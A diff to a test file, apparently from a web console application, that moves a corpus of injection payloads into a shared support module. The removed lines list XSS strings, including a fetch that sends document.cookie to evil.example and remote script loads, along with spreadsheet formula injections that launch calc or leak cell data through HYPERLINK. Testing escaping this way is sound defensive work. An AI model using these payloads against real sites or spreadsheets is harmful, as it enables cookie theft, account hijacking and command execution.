@@ -7,6 +7,7 @@ import { newPetitionNumber } from '../../src/handoff/petition-number.ts';
 import { addConversation, browserOf, newOfficer } from '../support/console.ts';
 import { createTestDb, type TestDb } from '../support/db.ts';
 import { startHouse } from '../support/house.ts';
+import { PAYLOADS } from '../support/payloads.ts';
 
 const NOW = new Date('2026-07-20T02:00:00Z');
 let database: TestDb;
@@ -19,68 +20,6 @@ afterAll(async () => {
   await house.stop();
   await database.close();
 });
-
-/** Ways into a page, each in several dresses: 200 and more. */
-const PAYLOADS = [
-  ...['alert(1)', 'alert`1`', "fetch('//evil.example?'+document.cookie)", 'top.location="//evil.example"'].flatMap(
-    (code) => [
-      `<script>${code}</script>`,
-      `<ScRiPt>${code}</sCrIpT>`,
-      `<script src=//evil.example/x.js></script>`,
-      `"><script>${code}</script>`,
-      `'><script>${code}</script>`,
-      `</textarea><script>${code}</script>`,
-      `</title><script>${code}</script>`,
-      `</style><script>${code}</script>`,
-      `--><script>${code}</script>`,
-      `]]><script>${code}</script>`,
-      `<img src=x onerror=${code}>`,
-      `<img src=x onerror="${code}">`,
-      `"><img src=x onerror=${code}>`,
-      `' onmouseover='${code}`,
-      `" onfocus="${code}" autofocus="`,
-      `<svg onload=${code}>`,
-      `<svg><script>${code}</script></svg>`,
-      `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
-      `<iframe srcdoc="<script>${code}</script>">`,
-      `<iframe src="javascript:${code}">`,
-      `<a href="javascript:${code}">bấm</a>`,
-      `<a href="data:text/html,<script>${code}</script>">bấm</a>`,
-      `<math href="javascript:${code}">x</math>`,
-      `<details open ontoggle=${code}>`,
-      `<body onload=${code}>`,
-      `<video><source onerror=${code}></video>`,
-      `<input autofocus onfocus=${code}>`,
-      `<form action="javascript:${code}"><button>x</button></form>`,
-      `<object data="javascript:${code}">`,
-      `<embed src="javascript:${code}">`,
-      `<meta http-equiv="refresh" content="0;url=javascript:${code}">`,
-      `<link rel=stylesheet href="//evil.example/x.css">`,
-      `<style>@import "//evil.example/x.css";</style>`,
-      `<base href="//evil.example/">`,
-      `<div hx-get="//evil.example" hx-trigger="load"></div>`,
-      `<div hx-on:load="${code}"></div>`,
-      `<div data-hx-on-load="${code}"></div>`,
-      `<template shadowrootmode=open><script>${code}</script></template>`,
-      `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
-      `{{constructor.constructor('${code}')()}}`,
-      `\${${code}}`,
-      `&lt;script&gt;${code}&lt;/script&gt;`,
-      `\u003cscript\u003e${code}\u003c/script\u003e`,
-      `<scr\u0000ipt>${code}</scr\u0000ipt>`.replaceAll('\u0000', ''),
-      `＜script＞${code}＜/script＞`,
-      `<img/src/onerror=${code}>`,
-      `<x onclick=${code}>bấm</x>`,
-      `javascript:${code}`,
-      `<!--<img src="--><img src=x onerror=${code}//">`,
-      `<table background="javascript:${code}">`,
-    ],
-  ),
-  ...['=', '+', '-', '@', '\t=', '\r=', '|', '%', ' =', '＝'].flatMap((sign) => [
-    `${sign}cmd|' /C calc'!A0`,
-    `${sign}HYPERLINK("https://evil.example?"&A1,"bấm")`,
-  ]),
-];
 
 /** One tag as our templates write them: every value in double quotes. */
 const TAG = /^<\/?([a-z][a-z0-9]*)((?:\s+[a-z][\w:-]*(?:="[^"<>]*")?)*)\s*\/?>/;
